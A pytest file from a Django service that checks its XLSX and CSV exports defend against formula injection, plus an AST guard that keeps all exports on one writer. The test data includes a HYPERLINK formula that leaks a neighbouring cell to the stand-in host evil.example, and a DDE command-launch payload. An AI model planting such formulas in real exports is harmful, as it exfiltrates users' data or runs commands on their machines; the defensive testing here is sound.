"""No spreadsheet or CSV file the service writes holds a formula made from someone's text.

Each writer (the digest's action list, the plan export, the public downloads) is given text
starting with each character a spreadsheet program runs as a formula, and its file is read
back: in XLSX every such cell is a text cell holding exactly what was typed; in CSV it is
behind an apostrophe. A last test keeps every future export on the one writer.
"""

import ast
import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from actions.models import BoardAudience, Plan
from actions.services import action_update_status
from actions.spreadsheets import plan_export
from actions.tabular import FORMULA_STARTS, new_workbook, workbook_bytes
from digests.services import digest_snapshot
from tests.factories import (
    ActionFactory,
    MilestoneFactory,
    OutcomeFactory,
    PlanFactory,
    RecommendationFactory,
    SuccessMeasureFactory,
    UserFactory,
)
from tests.spreadsheets.conftest import NOW

pytestmark = pytest.mark.django_db

# The commentary of the report: clicked, it sends the next cell to another site.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Evidence pack")'
MARK = "evil.example"
TEXTS = [start + 'HYPERLINK("http://evil.example/?x="&A2,"Evidence pack")' for start in "=+-@"]
TEXTS += ["\tcmd|' /C calc'!A0 evil.example", "\r=1+1 evil.example"]
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def as_read(text: str) -> str:
    # Excel's line break in a cell is a line feed: a carriage return comes back as one.
    return text.replace("\r", "\n")


def xlsx_cells(data: bytes) -> list[Cell]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_cells(data: bytes, text: str, *, expected: int) -> list[Cell]:
    """No formula anywhere; each cell with the text holds it exactly, as a text cell."""
    cells = xlsx_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = [c for c in cells if isinstance(c.value, str) and MARK in c.value]
    assert len(written) == expected
    for cell in written:
        assert (cell.data_type, cell.value) == ("s", as_read(text)), cell.coordinate
        if text.startswith(FORMULA_STARTS):
            # Excel's mark for text typed after an apostrophe: it stays text when edited.
            assert cell.quotePrefix, cell.coordinate
    return cells


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_escaped_csv(text: str, written: str, *, expected: int) -> None:
    found = [cell for cell in csv_cells(text) if MARK in cell]
    escaped = "'" + written if written.startswith(FORMULA_STARTS) else written
    assert found == [escaped] * expected


# --- The digest's action list ---------------------------------------------------------------


def digest_xlsx(plan: Plan) -> bytes:
    assert plan.board is not None and plan.board.audience == BoardAudience.EXECUTIVE
    snapshot, created = digest_snapshot(plan=plan, board=plan.board, as_of=NOW.date(), now=NOW)
    assert created
    return bytes(snapshot.spreadsheet)


def test_a_commentary_that_is_a_formula_reaches_the_digest_spreadsheet_as_text() -> None:
    owner = UserFactory.create(name="Owen Owner")
    action = ActionFactory.create(owner=owner, reference="1.1")

    action_update_status(action=action, by=owner, commentary=HYPERLINK)
    data = digest_xlsx(action.plan)

    cells = assert_text_cells(data, HYPERLINK, expected=1)
    [commentary] = [c for c in cells if c.value == HYPERLINK]
    assert commentary.column_letter == "L"  # "Latest commentary"
    # Numbers and dates stay numbers and dates.
    row = {c.column_letter: c for c in cells if c.row == commentary.row}
    assert (row["A"].data_type, row["A"].value) == ("n", action.recommendation.number)
    assert (row["F"].data_type, row["F"].value) == ("d", dt.datetime(2026, 12, 18))


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_the_digest_spreadsheet_writes_titles_and_names_as_text(text: str) -> None:
    owner = UserFactory.create(name=text)
    action = ActionFactory.create(owner=owner, title=text)

    assert_text_cells(digest_xlsx(action.plan), text, expected=2)


def test_text_that_spells_an_error_value_stays_text_in_the_digest() -> None:
    owner = UserFactory.create()
    action = ActionFactory.create(owner=owner, title="#N/A")
    action_update_status(action=action, by=owner, commentary="#REF!")

    cells = xlsx_cells(digest_xlsx(action.plan))

    written = [(c.data_type, c.value) for c in cells if c.value in ("#N/A", "#REF!")]
    assert written == [("s", "#N/A"), ("s", "#REF!")]


def test_text_a_workbook_cannot_hold_does_not_stop_the_digest() -> None:
    owner = UserFactory.create()
    action = ActionFactory.create(owner=owner)
    # A vertical tab, as pasted from a word processor: not allowed in a workbook's XML.
    action_update_status(action=action, by=owner, commentary="Paused\x0bresumed in May")

    cells = xlsx_cells(digest_xlsx(action.plan))

    assert "Pausedresumed in May" in [c.value for c in cells]


# --- The plan export --------------------------------------------------------------------------


def plan_with_text(text: str, **plan: Any) -> Plan:
    """A plan whose recommendation, outcome, action, milestone and measure names are ``text``."""
    recommendation = RecommendationFactory.create(
        plan=PlanFactory.create(**plan), number=1, title=text
    )
    outcome = OutcomeFactory.create(recommendation=recommendation, title=text)
    action = ActionFactory.create(recommendation=recommendation, outcome=outcome, title=text)
    MilestoneFactory.create(recommendation=recommendation, title=text, actions=[action])
    SuccessMeasureFactory.create(recommendation=recommendation, name=text)
    return recommendation.plan


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_the_plan_export_writes_text_as_text_in_xlsx_and_escaped_in_csv(text: str) -> None:
    plan = plan_with_text(text)

    # Recommendation ("1 <text>" starts with its number), outcome, title, milestone.
    cells = xlsx_cells(plan_export(plan=plan, file_format="xlsx"))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    written = [c for c in cells if isinstance(c.value, str) and MARK in c.value]
    risky = text.startswith(FORMULA_STARTS)
    assert [(c.data_type, c.value, c.quotePrefix) for c in written] == [
        ("s", f"1 {as_read(text)}", False),
        ("s", as_read(text), risky),
        ("s", as_read(text), risky),
        ("s", as_read(text), risky),
    ]
    due = next(c for c in cells if c.row == written[0].row and c.column == 7)
    assert (due.data_type, due.value) == ("d", dt.datetime(2026, 12, 18))

    exported = plan_export(plan=plan, file_format="csv").decode("utf-8-sig")
    found = [cell for cell in csv_cells(exported) if MARK in cell]
    escaped = "'" + text if risky else text
    # The recommendation cell starts with its number: no program runs it as a formula.
    assert found == [f"1 {text}", escaped, escaped, escaped]


# --- The public downloads ---------------------------------------------------------------------


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_the_public_downloads_write_text_as_text_in_xlsx_and_escaped_in_csv(
    client: Client, text: str
) -> None:
    plan = plan_with_text(text, published=True)

    xlsx = client.get(f"/plans/{plan.slug}.xlsx")
    # "Recommendation title" and "Item" on its row, "Recommendation title" on the outcome's,
    # milestone's and measure's rows and their "Item".
    cells = assert_text_cells(xlsx.content, text, expected=8)
    numbers = [c for c in cells if c.column == 2 and c.row > 1 and c.value is not None]
    assert {(c.data_type, c.value) for c in numbers} == {("n", 1)}

    csv_text = client.get(f"/plans/{plan.slug}.csv").content.decode("utf-8-sig")
    assert_escaped_csv(csv_text, text, expected=8)


# --- One writer for every export ---------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
WRITER = ROOT / "actions" / "tabular.py"
# Libraries that write spreadsheets or CSV on their own, each with its own formula rules.
OTHER_WRITERS = {"xlsxwriter", "pandas", "tablib", "pyexcel", "odf", "xlwt"}


def offences(source: str) -> list[str]:
    """Where ``source`` makes a spreadsheet or CSV file without ``actions.tabular``."""
    found: list[tuple[int, str]] = []
    for node in ast.walk(ast.parse(source)):
        line = getattr(node, "lineno", 0)
        if isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module.startswith("openpyxl") and (
                "Workbook" in names or node.module.startswith("openpyxl.writer")
            ):
                found.append((line, "imports openpyxl's Workbook or writer"))
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.append((line, "imports csv's writer"))
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            modules += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            if any(m.split(".")[0] in OTHER_WRITERS for m in modules):
                found.append((line, "imports another spreadsheet writer"))
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and (node.value.id, node.attr)
            in {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook")}
        ):
            found.append((line, f"uses {node.value.id}.{node.attr}"))
        # A workbook opened to be changed and saved again; a read-only one cannot be saved.
        if (
            isinstance(node, ast.Call)
            and _name(node.func) == "load_workbook"
            and not any(
                k.arg == "read_only" and isinstance(k.value, ast.Constant) and k.value.value
                for k in node.keywords
            )
        ):
            found.append((line, "opens a workbook that could be saved"))
    return [f"line {line}: {what}" for line, what in sorted(found)]


def _name(func: ast.expr) -> str:
    return func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")


def application_modules() -> list[Path]:
    packages = [p for p in ROOT.iterdir() if (p / "__init__.py").is_file() and p.name != "tests"]
    modules = [m for package in packages for m in package.rglob("*.py")]
    return sorted([ROOT / "manage.py", *modules])


def test_the_guard_finds_a_workbook_or_csv_writer_made_elsewhere() -> None:
    source = """
import csv
from openpyxl import Workbook, load_workbook
from openpyxl.writer.excel import save_workbook
import xlsxwriter

book = Workbook()
csv.writer(out).writerow(["=1+1"])
load_workbook("template.xlsx")
load_workbook(data, read_only=True, data_only=True)
"""
    assert offences(source) == [
        "line 3: imports openpyxl's Workbook or writer",
        "line 4: imports openpyxl's Workbook or writer",
        "line 5: imports another spreadsheet writer",
        "line 8: uses csv.writer",
        "line 9: opens a workbook that could be saved",
    ]


def test_every_spreadsheet_and_csv_file_is_written_by_the_one_writer() -> None:
    modules = application_modules()
    assert ROOT / "digests" / "spreadsheet.py" in modules
    assert WRITER in modules

    found = {
        str(path.relative_to(ROOT)): problems
        for path in modules
        if path != WRITER and (problems := offences(path.read_text(encoding="utf-8")))
    }

    assert found == {}, "write XLSX and CSV files with actions.tabular"
    assert offences(WRITER.read_text(encoding="utf-8")), "the writer itself is checked too"


def test_a_saved_workbook_holds_no_formula_even_from_a_cell_set_directly() -> None:
    book, sheet = new_workbook("Sheet")
    sheet["A1"] = HYPERLINK
    sheet.cell(row=2, column=1, value="#REF!")

    cells = xlsx_cells(workbook_bytes(book))

    assert [(c.data_type, c.value) for c in cells] == [("s", HYPERLINK), ("s", "#REF!")]
